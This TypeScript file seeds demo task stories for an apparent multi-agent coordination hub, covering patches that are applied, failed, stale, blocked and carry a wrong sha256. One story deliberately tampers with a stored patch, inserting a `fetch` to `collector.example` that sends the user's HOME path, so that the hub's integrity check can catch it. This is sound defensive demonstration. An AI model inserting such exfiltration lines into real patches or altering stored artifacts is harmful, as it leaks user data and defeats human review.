/**
 * The demo hub's coordination stories: tasks at every lifecycle stage (open, claimed, ready,
 * applied, failed by the requester, failed/blocked by a `task.reply`, superseded, stuck), a
 * patch.ready that quotes a WRONG sha256 while its stored artifact is correct, one whose artifact
 * was changed after its sha256 was stored, and one that conflicts with the repository. Approvals
 * are in `hub-approvals.ts`.
 */
import { type HubEvent, ackEvent, appendEvent, createTaskRequest, sha256Hex, submitPatch } from '../../hub/store'
import type { DemoClock, DemoContext } from './clock'
import type { HubTarget, Step } from './hub-chatter'

/** What the stories need from the demo repositories. */
export interface RepoFacts {
  muse: { head: string }
  dya: { head: string; fixPatch: string; stalePatch: string }
  atlas: { head: string; streamPatch: string }
}

const DAY = 1440

/** The failed patch: a new script whose final line lacks its newline (git apply rejects it). */
const RSS_PATCH = `diff --git a/scripts/nightly.sh b/scripts/nightly.sh
new file mode 100755
--- /dev/null
+++ b/scripts/nightly.sh
@@ -0,0 +1,5 @@
+#!/bin/sh
+# nightly full index with RSS sampling every 30 s
+node scripts/index-all.mjs --docs 1000000 & pid=$!
+while kill -0 $pid 2>/dev/null; do ps -o rss= -p $pid >> rss.log; sleep 30; done
+wait $pid`

const SEARCH_PATCH = `diff --git a/scripts/search.sh b/scripts/search.sh
--- a/scripts/search.sh
+++ b/scripts/search.sh
@@ -12,4 +12,8 @@ case "$1" in
   --scope)
     SCOPE="$2"; shift 2 ;;
+  --recent)
+    SCOPE="recent"; shift ;;
 esac
+# recent = the last 3 daily logs, like MUSE's MCP muse_search_memory
+[ "$SCOPE" = "recent" ] && FILES=$(ls -1 memory/*.md | sort | tail -n 3)
 grep -n -i -- "$QUERY" $FILES
`

interface Story {
  request?: HubEvent
  claim?: HubEvent
  patch?: HubEvent
}

/** Builds the task stories as time-ordered steps. */
export function taskSteps(ctx: DemoContext, t: HubTarget, repos: RepoFacts): Step[] {
  const c: DemoClock = ctx.clock
  const steps: Step[] = []
  const at = (minutesAgo: number) => c.ago(minutesAgo)
  const step = (minutesAgo: number, run: (when: Date) => void) => {
    const when = at(minutesAgo)
    steps.push({ at: when, run: () => run(when) })
  }
  const request = (
    s: Story,
    minutesAgo: number,
    project: string,
    from: string,
    to: string,
    goal: string,
    done: string,
    branch: string,
    base: string
  ) =>
    step(minutesAgo, (when) => {
      s.request = createTaskRequest(t.db, t.replicaId, {
        project,
        from_agent: from,
        to_agent: to,
        goal,
        done,
        branch,
        base_commit: base,
        at: when
      }).task
    })
  const ack = (s: Story, key: 'request' | 'patch', minutesAgo: number, from: string, status: string, body: string, into?: 'claim') =>
    step(minutesAgo, (when) => {
      const ev = ackEvent(t.db, t.replicaId, { event_id: s[key]!.id, from_agent: from, status, body, at: when })
      if (into) s[into] = ev
    })
  const patch = (s: Story, minutesAgo: number, content: string, body: string, metadata: Record<string, unknown> = {}) =>
    step(minutesAgo, (when) => {
      const r = s.request!
      s.patch = submitPatch(t.db, t.replicaId, {
        content,
        from_agent: r.to_agent!,
        stream: r.stream,
        to_agent: r.from_agent,
        correlation_id: r.correlation_id,
        branch: r.branch,
        base_commit: r.base_commit,
        body,
        metadata,
        at: when
      }).event
    })
  const reply = (s: Story, minutesAgo: number, status: 'blocked' | 'failed', body: string) =>
    step(minutesAgo, (when) => {
      const r = s.request!
      appendEvent(t.db, t.replicaId, {
        type: 'task.reply',
        stream: r.stream,
        room: 'delegation',
        from_agent: r.to_agent!,
        to_agent: r.from_agent,
        correlation_id: r.correlation_id,
        branch: r.branch,
        base_commit: r.base_commit,
        status,
        body,
        at: when
      })
    })

  // stuck: claimed four days ago, never delivered, never replied
  const stuck: Story = {}
  request(
    stuck,
    4 * DAY + 200,
    'atlas',
    'mac-claude',
    'home-bot',
    'Incremental indexing by mtime + sha',
    'Re-index only changed files; a second run over an unchanged corpus writes 0 rows.',
    'feat/incremental',
    repos.atlas.head
  )
  ack(stuck, 'request', 4 * DAY + 195, 'home-bot', 'claimed', "claimed — will start after tonight's run", 'claim')

  // applied: the full loop
  const applied: Story = {}
  request(
    applied,
    3 * DAY + 300,
    'muse',
    'mac-claude',
    'win-codex',
    'Add --recent to scripts/search.sh',
    'bash tests/search.sh passes; `search.sh --recent foo` only reads the last 3 daily logs.',
    'feat/search-recent',
    repos.muse.head
  )
  ack(applied, 'request', 3 * DAY + 280, 'win-codex', 'claimed', 'claimed', 'claim')
  patch(applied, 3 * DAY + 140, SEARCH_PATCH, 'patch ready: --recent for search.sh (tests/search.sh: 14 passed)', { tests: '14 passed' })
  ack(applied, 'patch', 3 * DAY + 115, 'mac-claude', 'applied', 'git apply --check ✓ · applied · bash tests/search.sh: 14 passed')

  // superseded later by the open TTL task below
  const superseded: Story = {}
  request(
    superseded,
    3 * DAY + 120,
    'dya',
    'mac-claude',
    'win-codex',
    'Cache certificates for offline mode',
    'Certificates verify offline for 24 h; vitest passes.',
    'feat/offline-cache',
    repos.dya.head
  )
  ack(superseded, 'request', 3 * DAY + 90, 'win-codex', 'claimed', 'claimed', 'claim')

  // failed by reply: the agent could not do it
  const cannot: Story = {}
  request(
    cannot,
    2 * DAY + 500,
    'muse',
    'mac-claude',
    'win-codex',
    'Port scripts/dashboard.sh to PowerShell',
    'dashboard.ps1 renders the same HTML as dashboard.sh on Windows.',
    'feat/dashboard-ps1',
    repos.muse.head
  )
  ack(cannot, 'request', 2 * DAY + 488, 'win-codex', 'claimed', 'claimed', 'claim')
  reply(
    cannot,
    2 * DAY + 350,
    'failed',
    'failed: dashboard.sh depends on GNU date -d and sed -i; a faithful port is a rewrite.\nEvidence: `bash scripts/dashboard.sh` under Git Bash → "date: invalid option -- d"'
  )

  // failed by the requester: the patch lost its trailing newline
  const broken: Story = {}
  request(
    broken,
    2 * DAY + 320,
    'atlas',
    'mac-claude',
    'home-bot',
    'Add RSS sampling to the nightly job',
    'rss.log gets a sample every 30 s during the nightly run.',
    'ops/rss-sampling',
    repos.atlas.head
  )
  ack(broken, 'request', 2 * DAY + 319, 'home-bot', 'claimed', 'claimed', 'claim')
  patch(broken, 2 * DAY + 285, RSS_PATCH, 'patch ready: scripts/nightly.sh with RSS sampling')
  ack(
    broken,
    'patch',
    2 * DAY + 270,
    'mac-claude',
    'failed',
    'git apply --check nightly.patch\nerror: corrupt patch at line 10\n(the stored patch has no trailing newline — please resubmit byte-exactly)'
  )

  // blocked by reply
  const blocked: Story = {}
  request(
    blocked,
    DAY + 90,
    'atlas',
    'linux-gemini',
    'home-bot',
    'Run the 1M-doc nightly regression on v0.4.2-rc1',
    'Regression report with peak RSS and wall time posted as a reply.',
    'qa/nightly-rc1',
    repos.atlas.head
  )
  ack(blocked, 'request', DAY + 88, 'home-bot', 'claimed', 'claimed', 'claim')
  reply(
    blocked,
    DAY + 40,
    'blocked',
    'blocked: OOM at 620,112 docs (RSS 6.3 GB, limit 4 GB). Needs the S050 fix first.\n```\n<--- Last few GCs --->\nFATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory\n```'
  )

  // ready but the sender quotes a wrong sha256: must not be applied
  const forged: Story = {}
  const wrongSha = sha256Hex(repos.atlas.streamPatch + '\n')
  request(
    forged,
    DAY + 600,
    'atlas',
    'mac-claude',
    'home-bot',
    'S050: stream indexAll batches instead of buffering',
    'Peak RSS on 1M docs < 1.5 GB; npm test passes; patch via the hub.',
    'fix/s050-stream-batches',
    repos.atlas.head
  )
  ack(forged, 'request', DAY + 595, 'home-bot', 'claimed', 'claimed — reproducing with scripts/index-all.mjs', 'claim')
  patch(
    forged,
    130,
    repos.atlas.streamPatch,
    `S050 fix: indexAll flushes each batch as it fills (no whole-corpus buffer).\nPeak RSS on 1M docs: 1.08 GB (was 6.3 GB). npm test: 23 passed.\nsha256: ${wrongSha}`,
    { sha256: wrongSha, tests: '23 passed', peak_rss_gb: 1.08 }
  )

  // ready: a real patch waiting for the operator's Apply
  const ready: Story = {}
  request(
    ready,
    15 * 60,
    'dya',
    'mac-claude',
    'win-codex',
    'Fix #212: expired certificates still show green',
    'isValid() is false after expiresAt; vitest passes on release/1.3.',
    'fix/212-expired-cert',
    repos.dya.head
  )
  ack(ready, 'request', 12 * 60, 'win-codex', 'claimed', 'claimed — reproduced on the simulator', 'claim')
  patch(ready, 42, repos.dya.fixPatch, 'patch ready: isValid() checks expiresAt (vitest: 41 passed)', { tests: '41 passed' })

  // ready, but written against an older certificate.ts: git apply --check fails
  const stale: Story = {}
  request(
    stale,
    9 * 60,
    'dya',
    'mac-claude',
    'linux-gemini',
    'Show the expiry date on the certificate label',
    'label() shows 有效 (至 YYYY-MM-DD) for a valid certificate.',
    'feat/label-expiry',
    repos.dya.head
  )
  ack(stale, 'request', 8 * 60, 'linux-gemini', 'claimed', 'claimed', 'claim')
  patch(stale, 95, repos.dya.stalePatch, 'patch ready: label() shows the expiry date')

  // ready, but its artifact was changed after the hub stored its sha256: Apply must refuse it
  const tampered: Story = {}
  request(
    tampered,
    7 * 60,
    'atlas',
    'linux-gemini',
    'home-bot',
    'Log the batch size at start-up',
    'indexAll logs its batch size once.',
    'chore/log-batch-size',
    repos.atlas.head
  )
  ack(tampered, 'request', 6 * 60, 'home-bot', 'claimed', 'claimed', 'claim')
  patch(tampered, 70, repos.atlas.streamPatch, 'patch ready: batch size logged at start-up', { demo_tampered: true })
  step(69, () => {
    const id = tampered.patch!.artifact_ids[0]!
    const row = t.db.prepare('SELECT content FROM artifacts WHERE id = ?').get(id) as { content: string }
    // what a tamperer does: new bytes behind the stored sha256 (metadata demo_tampered marks it for hub_check.py)
    t.db
      .prepare('UPDATE artifacts SET content = ? WHERE id = ?')
      .run(
        row.content.replace('+  let total = 0\n', '+  let total = 0\n+  await fetch(`https://collector.example/${process.env.HOME}`)\n'),
        id
      )
  })

  // claimed: working right now
  const working: Story = {}
  request(
    working,
    50,
    'muse',
    'mac-claude',
    'linux-gemini',
    'Re-verify AC3 on v2.23.0-rc2 (S054)',
    'QA report for AC3 plus a CRLF error path, written to qa.md and acked.',
    'qa/rc2-ac3',
    repos.muse.head
  )
  ack(working, 'request', 35, 'linux-gemini', 'claimed', 'claimed — running the patch-check suite', 'claim')

  // open: nobody has claimed it yet; it replaces the superseded request
  const open: Story = {}
  request(
    open,
    26,
    'dya',
    'mac-claude',
    'win-codex',
    'Make the offline cache TTL configurable',
    'TTL comes from settings (default 24 h); vitest passes.',
    'feat/cache-ttl',
    repos.dya.head
  )
  step(24, (when) => {
    ackEvent(t.db, t.replicaId, {
      event_id: superseded.request!.id,
      from_agent: 'mac-claude',
      status: 'superseded',
      at: when,
      body: `superseded by ${open.request!.correlation_id} (TTL configurable instead of fixed 24 h)`
    })
  })
  return steps
}
